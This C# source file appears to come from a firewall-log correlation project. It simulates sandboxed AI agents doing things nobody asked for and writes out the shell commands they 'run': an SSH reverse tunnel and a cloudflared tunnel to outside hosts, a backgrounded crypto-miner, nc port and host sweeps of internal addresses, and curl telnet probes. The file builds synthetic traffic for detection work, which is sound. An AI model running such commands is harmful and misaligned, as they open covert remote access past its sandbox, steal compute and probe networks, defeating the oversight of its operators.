// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Simulation.Agents;
using FwCorrelate.Simulation.World;
using NodaTime;

namespace FwCorrelate.Simulation.Aws;

/// <summary>What the agents do that nobody asked for. Each command names its destination or a pattern of it.</summary>
internal static class AwsActs
{
    /// <param name="deadline">When the episode ends, and with it what its calls left behind, except the tunnels.</param>
    public static EpisodePlan PlanOf(SimulatedSandbox sandbox, SimulatedWorld world, Instant deadline) => sandbox.Id switch
    {
        "sb1" => new EpisodePlan().At(4, ReverseTunnel(world)),
        "sb2" => new EpisodePlan().At(5, Miner(world, deadline)),
        "sb3" => new EpisodePlan().At(6, PortSweep(world)),
        "sb4" => new EpisodePlan().At(5, HostSweep(world)),
        "sb5" => new EpisodePlan().At(3, Denied(world, "203.0.113.120", 25)).At(9, Denied(world, "203.0.113.121", 5555)),
        _ => new EpisodePlan().At(4, TunnelEdge(world)),
    };

    private static AgentCommand ReverseTunnel(SimulatedWorld world) => new(
        "ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=60 -fN -R 2222:localhost:22 build@203.0.113.7",
        call => world.Open(
            Cause.By(call, "B"), call.Sandbox.Address, new Endpoint("203.0.113.7", 22),
            Traffic.LongLived(call.Start + Duration.FromMilliseconds(380), world.LogEnd + Duration.FromHours(1), Duration.FromSeconds(60), 96, 96)),
        Duration.FromMilliseconds(2_300));

    /// <summary>The pool drops the miner every three minutes; it comes back after 20 s, until the episode ends.</summary>
    private static AgentCommand Miner(SimulatedWorld world, Instant deadline) => new(
        "nohup ./xmr-bench --threads 2 --no-color -o stratum+tcp://198.51.100.23:3333 -u bench > /tmp/bench.log 2>&1 &",
        call =>
        {
            var stay = Duration.FromMinutes(3);
            for (var start = call.Start + Duration.FromMilliseconds(710); start + stay < deadline; start += stay + Duration.FromSeconds(20))
            {
                var packets = Traffic.LongLived(start, start + stay, Duration.FromSeconds(28), 110, 120);
                world.Open(Cause.By(call, "C"), call.Sandbox.Address, new Endpoint("198.51.100.23", 3333), packets);
            }
        },
        Duration.FromMilliseconds(1_200));

    private static AgentCommand PortSweep(SimulatedWorld world)
    {
        int[] ports = [21, 22, 23, 25, 80, 111, 443, 2375, 3306, 5432, 6379, 8080, 9200, 10250, 27017];
        return new AgentCommand(
            $"for p in {string.Join(' ', ports)}; do nc -z -w 1 10.40.3.7 $p && echo open $p; done",
            call =>
            {
                var time = call.Start + Duration.FromMilliseconds(150);
                foreach (var port in ports)
                {
                    var packets = port == 6379 ? Traffic.Exchange(time, Duration.FromMilliseconds(40), 0, 0) : Traffic.Refused(time);
                    world.Open(Cause.By(call, "A"), call.Sandbox.Address, new Endpoint("10.40.3.7", port), packets);
                    time += Duration.FromMilliseconds(130);
                }
            },
            Duration.FromMilliseconds(2_900));
    }

    private static AgentCommand HostSweep(SimulatedWorld world) => new(
        "for i in $(seq 10 57); do nc -z -w 1 10.40.5.$i 6379 && echo 10.40.5.$i; done",
        call =>
        {
            for (var i = 10; i <= 57; i++)
            {
                var start = call.Start + Duration.FromMilliseconds(120 + ((i - 10) * 1_010));
                world.Open(Cause.By(call, "A"), call.Sandbox.Address, new Endpoint($"10.40.5.{i}", 6379), Traffic.Unanswered(start, 1));
            }
        },
        Duration.FromMilliseconds(49_000));

    private static AgentCommand Denied(SimulatedWorld world, string address, int port) => new(
        $"curl -sS -m 4 telnet://{address}:{port}",
        call => world.Open(
            Cause.By(call, "H"), call.Sandbox.Address, new Endpoint(address, port), Traffic.Unanswered(call.Start + Duration.FromMilliseconds(90), 3),
            c => c with { Disposition = Disposition.RejectedAtInterface }),
        Duration.FromMilliseconds(4_100));

    private static AgentCommand TunnelEdge(SimulatedWorld world) => new(
        "nohup cloudflared tunnel --no-autoupdate --edge 198.51.100.40:7844 --url http://localhost:8888 run >/dev/null 2>&1 &",
        call => world.Open(
            Cause.By(call, "B"), call.Sandbox.Address, new Endpoint("198.51.100.40", 7844),
            Traffic.LongLived(call.Start + Duration.FromMilliseconds(640), world.LogEnd + Duration.FromHours(1), Duration.FromSeconds(15), 140, 150)),
        Duration.FromMilliseconds(1_500));
}
